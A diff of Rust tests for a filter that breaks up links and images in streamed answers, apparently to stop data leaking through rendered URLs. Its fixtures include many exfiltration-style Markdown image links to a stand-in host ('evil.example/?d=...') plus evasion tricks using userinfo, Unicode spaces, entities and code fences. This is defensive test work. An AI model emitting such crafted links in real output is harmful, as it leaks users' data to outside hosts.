@@ -40,7 +40,12 @@ fn other_address_is_text() {
             "![](https://evil.example/?d=73)",
             "![] (https:/ /evil.example/?d=73)",
         ),
-        ("[a](//evil.example/73)", "[a] (//evil.example/73)"),
+        ("[a](//evil.example/73)", "[a] (/ /evil.example/73)"),
+        ("see //evil.example/73", "see / /evil.example/73"),
+        ("[a] (//evil.example/73)", "[a] (/ /evil.example/73)"),
+        (r"![a] (/\evil.example)", r"![a] (/ \evil.example)"),
+        ("![a] (http:evil.example)", "![a] (http: evil.example)"),
+        ("&sol;&sol;evil.example", "&sol; &sol;evil.example"),
         (
             "[a](https&colon;//evil.example)",
             "[a] (https&colon;/ /evil.example)",
@@ -75,6 +80,13 @@ fn address_that_only_begins_like_one_of_the_question_is_text() {
         "https://shop.example[x]@evil.example/?d=73421",
         "https://shop.example{}@evil.example/?d=73421",
         "https://shop.example>@evil.example/?d=73421",
+        "https://shop.example<@evil.example/?d=73421",
+        "https://shop.example\u{a0}@evil.example/73421.png",
+        "https://shop.example\u{85}@evil.example/73421.png",
+        "https://shop.example\u{2028}@evil.example/73421.png",
+        "https://shop.example\u{3000}@evil.example/73421.png",
+        "https://shop.example\u{1}@evil.example/73421.png",
+        "https://shop.example\u{c}@evil.example/73421.png",
         "https://shop.example@evil.example/?d=73421",
         "https://shop.example:73421@evil.example/",
         "https://shop.example\\@evil.example/?d=73421",
@@ -97,17 +109,49 @@ fn address_that_only_begins_like_one_of_the_question_is_text() {
 }
 
 #[test]
+fn address_with_more_than_a_title_behind_it_is_text() {
+    for link in [
+        "![a](https://shop.example)",
+        "[a](https://shop.example 'b c').",
+        "[https://shop.example](https://shop.example \"b\" ), and so on",
+        "[![a](https://shop.example/a?b=1)](https://shop.example)",
+        "[x]: https://shop.example \"b\"\nyes",
+    ] {
+        assert_eq!(shown(link), link);
+    }
+    for link in [
+        "![a](https://shop.example @evil.example/73421.png)",
+        "![a](https://shop.example\n@evil.example/73421.png)",
+        "![a](https://shop.example \"b\" @evil.example/73421.png)",
+        "![a](https://shop.example\t\".evil.example\")",
+        "[a](https://shop.example)@evil.example",
+        "](https://shop.example).evil.example",
+    ] {
+        assert!(shown(link).contains("] (https:/"), "{}", shown(link));
+    }
+    // The address that is the text of a link reads on in some renderers.
+    assert_eq!(
+        shown("https://shop.example](www.other.example)@evil.example/s"),
+        "https:/ /shop.example] (www. other.example)@evil.example/s"
+    );
+}
+
+#[test]
 fn definition_breaks_where_it_leads_elsewhere() {
     for (answer, text) in [
-        ("[x]: //evil.example", "[x] : //evil.example"),
-        ("> [x]:\n> //evil.example", "> [x] :\n> //evil.example"),
-        ("[x]:\n//evil.example", "[x] :\n//evil.example"),
+        ("[x]: //evil.example", "[x] : / /evil.example"),
+        ("> [x]:\n> //evil.example", "> [x] :\n> / /evil.example"),
+        ("[x]:\n//evil.example", "[x] :\n/ /evil.example"),
         (
             "[x]:https&colon;//evil.example",
             "[x] :https&colon;/ /evil.example",
         ),
         ("[x]: \\\\evil.example", "[x] : \\\\evil.example"),
-        ("[x]: <//evil.example>", "[x] : < //evil.example>"),
+        ("[x]: <//evil.example>", "[x] : < / /evil.example>"),
+        (
+            "[x]: https://shop.example @evil.example",
+            "[x] : https://shop.example @evil.example",
+        ),
     ] {
         assert_eq!(shown(answer), text);
     }
@@ -164,7 +208,9 @@ fn address_in_entities_and_escapes_is_broken() {
 #[test]
 fn long_text_without_spaces_passes() {
     const LENGTH: usize = 10_000;
-    for part in ["x", "](", "]:", "::", "www.", "`", "<a", "\u{e9}."] {
+    for part in [
+        "x", "](", "]:", "::", "www.", "`", "<a", "\u{e9}.", "/", "\\",
+    ] {
         let answer = part.repeat(LENGTH);
         let mut links = Links::new(QUESTION.to_owned());
         let given = links.next(&answer) + &links.end();
@@ -182,8 +228,9 @@ fn code_is_as_it_was() {
         "It is a `List<String>` or Map<String, Integer>[].",
         "dict[key]: value",
         "```sql\nSELECT a[1]::int, '<a href=x>' FROM t -- see https://docs.example\n```\nDone.",
-        "One\n````\n```\n[x]: https://evil.example\n   ````\nTwo",
-        "```\n<img src=x>",
+        "One\n````\n```\n[x]: https://evil.example\n````  \nTwo",
+        "```\r\n<img src=x>\r\n```\r\nTwo",
+        "```\na ~~~ <b> $$\n---\n```\n```\n<img src=x>\n```",
     ] {
         assert_eq!(shown(answer), answer);
     }
@@ -193,13 +240,20 @@ fn code_is_as_it_was() {
 fn code_that_ends_earlier_than_it_looks_hides_no_link() {
     for begin in [
         "```\ncode\n```\n",
-        "```\ncode\n  ```  \n",
+        "```\ncode\n```  \n",
+        "```\ncode\n```\t\n```\n",
+        "```\ncode\n  ```\n```\n",
+        "```\ncode\n````\n```\n",
+        "```\ncode\n\t```\n```\n",
+        "```\ncode\n```\r```\n",
+        "```\ncode ```\n```\n",
         "```\ncode\n```\u{a0}\n```\n",
         "```\ncode\n```\u{b}\n```\n",
         "```\ncode\n``` \u{2003}\n",
         "```\ncode\n```more\n",
         "```sql a\n",
         "```sql \n",
+        "``` sql\n",
         "```\ncode\r```\r",
         "```a`b\n",
         "  ```\n```\n",
@@ -220,6 +274,44 @@ fn code_that_ends_earlier_than_it_looks_hides_no_link() {
 }
 
 #[test]
+fn fence_without_a_certain_end_hides_no_link() {
+    for end in [
+        "",
+        "\n",
+        "\n  ```",
+        "\n````",
+        "\n```\tmore",
+        "\ncode\u{b}```",
+        "\na ```\n```\n",
+        "\n~~~",
+    ] {
+        let answer = format!("```\ncode\n![](https://evil.example/?d=1){end}");
+        let shown = shown(&answer);
+        assert!(shown.contains("![] (https:/ /evil"), "{shown}");
+    }
+    // An image before an end that some renderers do not see.
+    let shown = shown("```\n![](https://evil.example/?d=1)\n```\u{a0}\n```\n");
+    assert!(shown.contains("![] (https:/ /evil"), "{shown}");
+}
+
+#[test]
+fn code_waits_for_the_end_of_its_fence_from_its_first_address_on() {
+    let mut links = Links::new(QUESTION);
+    let begin = "```sql\nSELECT 1 -- as ";
+    assert_eq!(links.next(begin), begin);
+    assert_eq!(links.next("https://docs.example says\nFROM t\n"), "https");
+    assert_eq!(links.next("```"), "");
+    let rest = "://docs.example says\nFROM t\n```\n";
+    assert_eq!(links.next("\n"), rest);
+    assert_eq!(links.next("Done."), "Done.");
+    // No longer than it may.
+    let mut links = Links::new(QUESTION);
+    let code = format!("```\n<img src=x>\n{}", "code\n".repeat(MAX_CODE));
+    let shown = code.replace('<', "< ");
+    assert_eq!(links.next(&code), shown);
+}
+
+#[test]
 fn fence_of_one_text_hides_no_link_of_another() {
     const IMAGE: &str = "![x](https://evil.example/?d=1)";
     const BROKEN: &str = "![x] (https:/ /evil.example/?d=1)";
@@ -229,12 +321,12 @@ fn fence_of_one_text_hides_no_link_of_another() {
     assert_eq!(links.alone("```\n"), "```\n");
     assert_eq!(links.next(IMAGE) + &links.end(), BROKEN);
     // And a fence in the answer opens none beside it.
-    let code = format!("\n```\n{IMAGE}");
+    let code = format!("\n```\n{IMAGE}\n```\n");
     assert_eq!(links.next(&code) + &links.end(), code);
     assert_eq!(links.alone(IMAGE), BROKEN);
     assert_eq!(
-        links.alone(&format!("```\n{IMAGE}")),
-        format!("```\n{BROKEN}")
+        links.alone(&format!("```\n{IMAGE}\n```")),
+        format!("```\n{BROKEN}\n```")
     );
     assert_eq!(
         links.alone("see https://shop.example"),
@@ -243,21 +335,22 @@ fn fence_of_one_text_hides_no_link_of_another() {
 }
 
 #[test]
-fn fence_stays_open_over_an_empty_line_of_the_host_until_it_is_closed() {
+fn fence_that_is_open_at_an_empty_line_of_the_host_hides_no_link() {
     const IMAGE: &str = "![x](https://evil.example/?d=1)";
     const BROKEN: &str = "![x] (https:/ /evil.example/?d=1)";
+    let code = format!("```\n{IMAGE}\n```");
     let mut links = Links::new(QUESTION);
-    let code = "```\ncode";
-    assert_eq!(links.next(code) + &links.end(), code);
-    links.begin_paragraph();
-    assert_eq!(links.next(IMAGE) + &links.end(), IMAGE);
-    links.begin_paragraph();
-    let closed = format!("```\n{IMAGE}");
-    let shown = format!("```\n{BROKEN}");
-    assert_eq!(links.next(&closed) + &links.end(), shown);
+    assert_eq!(links.next(&code) + &links.end(), code);
     // A line of the host begins one as well.
     links.begin_paragraph();
-    assert_eq!(links.next(&closed) + &links.end(), closed);
+    assert_eq!(links.next(&code) + &links.end(), code);
+    links.begin_paragraph();
+    assert_eq!(links.next("```\ncode") + &links.end(), "```\ncode");
+    links.begin_paragraph();
+    assert_eq!(links.next(IMAGE) + &links.end(), BROKEN);
+    links.begin_paragraph();
+    let shown = format!("```\n{BROKEN}\n```");
+    assert_eq!(links.next(&code) + &links.end(), shown);
 }
 
 #[test]
